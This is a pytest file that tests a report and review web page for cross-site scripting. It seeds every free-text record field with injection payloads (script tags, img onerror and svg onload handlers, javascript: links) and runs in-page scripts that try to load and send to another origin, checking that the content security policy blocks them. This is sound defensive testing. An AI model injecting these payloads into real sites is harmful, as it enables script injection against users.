"""The pages under attack in a browser: what a record says, what a script would do, and what other pages try."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from reviewing import ORIGINAL, TRANSLATION, recorded
from served import Served

from align import read, write

pytestmark = pytest.mark.timeout(300)

EVIL = (
    '</script></title></style>--><script>window.owned = 1</script><img class=evil src=x onerror="window.owned = 1">'
    '"\'><svg class=evil onload="window.owned = 1"></svg>\u202e<a class=evil href="javascript:window.owned = 1">'
)
# Values that the record knows, or that offsets lead into: all other strings may say anything.
KNOWN = {"schema", "language", "sha256", "text", "kind", "category", "severity", "verdict", "decision", "side", "status"}

TRY = """async (elsewhere) => {
  const broken = new Set();
  document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
  const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
  add("script", { textContent: "window.owned = 1" });
  add("script", { src: `${elsewhere}/script` });
  add("link", { rel: "stylesheet", href: `${elsewhere}/style` });
  add("img", { src: `${elsewhere}/picture` });
  add("iframe", { src: `${elsewhere}/frame` });
  add("base", { href: elsewhere });
  add("div", { innerHTML: `<img src=x onerror="window.owned = 1">` });
  add("div", { innerHTML: `<form action="${elsewhere}/form"><button id=go></button></form>` });
  document.getElementById("go").click();
  navigator.sendBeacon(`${elsewhere}/beacon`);
  await fetch(`${elsewhere}/fetch`).catch(() => undefined);
  await new Promise((done) => setTimeout(done, 500));
  return { broken: [...broken].sort(), owned: Boolean(window.owned) };
}"""
FORBIDDEN = {
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
}

FROM_ELSEWHERE = """async ([address, home]) => {
  const found = {};
  found.told = await fetch(address, { mode: "no-cors" }).then(() => true, () => false);
  found.script = await new Promise((done) => {
    document.body.append(Object.assign(document.createElement("script"), {
      src: `${home}static/review.js`, onload: () => done(true), onerror: () => done(false),
    }));
  });
  document.body.append(Object.assign(document.createElement("iframe"), { src: address }));
  const other = window.open(address);
  await new Promise((done) => setTimeout(done, 1000));
  found.held = Boolean(other) && !other.closed;
  return found;
}"""


def spoilt(value: Any, name: str = "") -> Any:
    """A record in which every word that may be any is an attack."""
    if isinstance(value, dict):
        return {key + EVIL if name == "evidence" else key: spoilt(inner, key) for key, inner in value.items()}
    if isinstance(value, list):
        return [spoilt(inner, name) for inner in value]
    return value + EVIL if isinstance(value, str) and name not in KNOWN else value


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a run by somebody who means harm."""
    texts = (text.replace("clock", f"clock {EVIL}").replace("keeper", f"keeper {EVIL}") for text in (ORIGINAL, TRANSLATION))
    made = recorded(tmp_path_factory.mktemp("attack") / "report", *texts)
    record = spoilt(json.loads((made / "report.json").read_text("utf-8")))
    place = {"start": 0, "stop": 3}
    record["findings"][0] |= {"suggestion": EVIL, "decision": {"verdict": "accepted", "reason": EVIL}}
    record["changes"] = [
        {"bead": 0, "original": None, "translation": place, "old": EVIL, "new": EVIL, "rule": f"terms.{EVIL}", "why": EVIL}
    ]
    record["original"] |= {
        "marks": [{"kind": "link", **place, "target": "javascript:window.owned = 1"}],
        "metadata": [{"name": "title", "value": EVIL}],
    }
    record["summary"] |= {"warnings": [EVIL], "likeness": [{"metric": EVIL, "score": 0.5, "signature": EVIL}]}
    (made / "report.json").write_text(json.dumps(record), "utf-8")
    (made / "report.html").write_text(write.html(read.record(made / "report.json")), "utf-8")
    return made


@pytest.fixture(scope="module")
def served(folder: Path) -> Iterator[Served]:
    found = Served(folder)
    yield found
    found.stop()


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site, and what it was asked for."""
    asked: list[str] = []

    class Answering(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answering)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(params=["report", "review"])
def address(request: pytest.FixtureRequest, folder: Path, served: Served) -> str:
    return (folder / "report.html").as_uri() if request.param == "report" else served.address


def test_whatever_a_record_says_is_words_on_the_page(address: str, visit: Callable[..., Any]) -> None:
    page = visit(address)
    assert page.evaluate("document.querySelectorAll('.evil, a[href^=javascript]').length") == 0
    assert not page.evaluate("Boolean(window.owned)")
    assert page.inner_text("body").count("class=evil") > 20


def test_a_script_that_did_get_in_could_neither_load_nor_tell(
    address: str, visit: Callable[..., Any], elsewhere: tuple[str, list[str]]
) -> None:
    site, asked = elsewhere
    found = visit(address, tolerated="").evaluate(TRY, site)
    assert not found["owned"]
    assert set(found["broken"]) >= FORBIDDEN
    assert asked == []


def test_another_page_of_the_same_browser_gets_nothing_of_the_review(
    served: Served, visit: Callable[..., Any], elsewhere: tuple[str, list[str]]
) -> None:
    """Not even one that knows the token: it may not ask, frame it, run its scripts, or keep hold of its window."""
    site, _ = elsewhere
    page = visit(f"{site}/", tolerated="")
    home = served.address.partition("?")[0]
    found = page.evaluate(FROM_ELSEWHERE, [served.address, home])
    assert found == {"told": False, "script": False, "held": False}
    assert not any(frame.url.startswith(home) for frame in page.frames)
